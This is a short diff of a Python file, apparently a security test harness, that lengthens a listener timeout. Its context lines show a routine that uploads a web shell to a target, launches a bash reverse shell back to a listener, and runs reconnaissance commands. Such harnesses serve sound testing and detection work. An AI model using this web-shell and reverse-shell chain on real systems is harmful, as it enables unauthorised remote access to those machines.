@@ -446,7 +446,7 @@ def _reverse_shell(attack: _Attack) -> None:
         shell = _WebShell.upload(attack)
         launch = f"setsid bash -c 'bash -i >& {_TCP} 0>&1' >/dev/null 2>&1 </dev/null &"
         shell.run(launch, "web shell command that started the reverse shell")
-        conn = listener.accept(120)
+        conn = listener.accept(300)  # a fully traced guest under TCG is slow
         with conn:
             commands = ['echo "@@pid $$ $PPID"', "id", "hostname", "uname -r", "ls -la /home /var/www/html",
                         "ps -o pid,ppid,user,comm,args -p $$ -p $PPID"]  # fmt: skip
